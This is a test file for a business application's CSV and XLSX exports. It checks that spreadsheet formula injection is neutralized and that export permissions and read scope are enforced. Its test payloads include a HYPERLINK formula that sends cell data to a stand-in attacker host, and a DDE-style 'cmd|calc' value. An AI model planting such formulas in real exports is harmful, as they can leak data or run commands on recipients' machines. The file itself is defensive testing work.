/**
 * Every list export (customers CSV, report CSV/XLSX) neutralizes cells that a spreadsheet would run as a formula,
 * needs the export permission, and holds only what the actor may read.
 */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { unzipSync, strFromU8 } from 'fflate';
import { createTestEnv, loginAs, type TestEnv, type Agent } from '../../test/harness.ts';
import { formulaSafe } from '../../../common/spreadsheet-cell.ts';
import { csvCell } from '../customers/index.ts';

let env: TestEnv;
let admin: Agent;
let manager: Agent;
let sales: Agent;
beforeAll(async () => {
  env = await createTestEnv({ start: '2026-11-23T08:00:00Z' });
  admin = await env.login('admin');
  manager = await env.login('manager');
  sales = await env.login('sales');
}, 180_000);
afterAll(async () => env?.close());

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describe('formula-safe cells', () => {
  it('prefixes text starting with = + - @ tab or CR, leaves plain signed numbers and other text', () => {
    expect(formulaSafe(EVIL)).toBe("'" + EVIL);
    expect(formulaSafe('+1+2')).toBe("'+1+2");
    expect(formulaSafe('-2+cmd|calc')).toBe("'-2+cmd|calc");
    expect(formulaSafe('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(formulaSafe('\t=1+1')).toBe("'\t=1+1");
    expect(formulaSafe('\r=1+1')).toBe("'\r=1+1");
    expect(formulaSafe('+98 912 555 0101')).toBe('+98 912 555 0101');
    expect(formulaSafe('-4400')).toBe('-4400');
    expect(formulaSafe('رضا = مشتری')).toBe('رضا = مشتری');
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
  });
});

describe('the customers CSV export', () => {
  it('neutralizes a customer named =HYPERLINK(…), needs customers:export, and keeps to the read scope', async () => {
    const made = await admin.post('/api/customers', { kind: 'person', firstName: EVIL, lastName: 'فرمول', tags: ['xp'] });
    expect(made.statusCode, made.body).toBe(201);
    const perms = { customers: { ops: ['read', 'create', 'export'], scope: 'own' } };
    const role = await admin.post('/api/roles', { key: 'own_csv', name: 'خروجی محدود', permissions: perms });
    expect(role.statusCode, role.body).toBe(201);
    expect((await admin.post('/api/users', { email: 'own-csv@test.example', name: 'محدود', password: 'Kooh-Sabz-Abi-Nazok-12', roleId: role.json().id })).statusCode).toBe(201);
    const limited = await loginAs(env.app, 'own-csv@test.example', 'Kooh-Sabz-Abi-Nazok-12');
    expect((await limited.post('/api/customers', { kind: 'person', firstName: 'مال', lastName: 'خودم', tags: ['xp'] })).statusCode).toBe(201);

    expect((await sales.get('/api/customers/export?tag=xp')).statusCode).toBe(403);
    const all = (await manager.get('/api/customers/export?tag=xp')).rawPayload.toString('utf8');
    expect(all).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(all).not.toMatch(/(^|,)=HYPERLINK/m);
    expect(all).toContain('خودم');
    const own = (await limited.get('/api/customers/export?tag=xp')).rawPayload.toString('utf8');
    expect(own).toContain('خودم');
    expect(own).not.toContain('HYPERLINK');
  });
});

describe('report exports', () => {
  it('write a product named =HYPERLINK(…) neutralized in CSV and XLSX, and need reports:export', async () => {
    const product = await admin.post('/api/products', { code: 'EVIL-1', nameFa: EVIL, price: '1000000' });
    expect(product.statusCode, product.body).toBe(201);
    const c = await admin.post('/api/customers', { kind: 'person', firstName: 'خریدار', lastName: 'گزارش' });
    const inv = await admin.post('/api/documents', { kind: 'invoice', customerId: c.json().id, issueDate: '2026-11-20', lines: [{ productId: product.json().id, quantity: '1' }] });
    expect(inv.statusCode, inv.body).toBe(201);
    expect((await admin.post(`/api/documents/${inv.json().id}/send`, { sms: false })).statusCode).toBe(200);

    const q = '/api/reports/sales?from=2026-11-01&to=2026-11-30&groupBy=product';
    expect((await sales.get(`${q}&format=csv`)).statusCode).toBe(403);
    expect((await sales.get(`${q}&format=xlsx`)).statusCode).toBe(403);
    expect((await sales.get(q)).statusCode).toBe(200); // reading the report on screen is allowed

    const csv = await manager.get(`${q}&format=csv`);
    expect(csv.statusCode, csv.body).toBe(200);
    expect(csv.body).toContain(`"'=HYPERLINK(`);
    expect(csv.body).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const xlsx = await manager.get(`${q}&format=xlsx`);
    expect(xlsx.statusCode).toBe(200);
    const files = unzipSync(new Uint8Array(xlsx.rawPayload));
    const text = Object.entries(files).filter(([n]) => n.endsWith('.xml')).map(([, f]) => strFromU8(f)).join('\n');
    expect(text).toContain("'=HYPERLINK(");
    expect(text).not.toMatch(/>=HYPERLINK/);
    expect(text).not.toContain('<f>');
  });
});
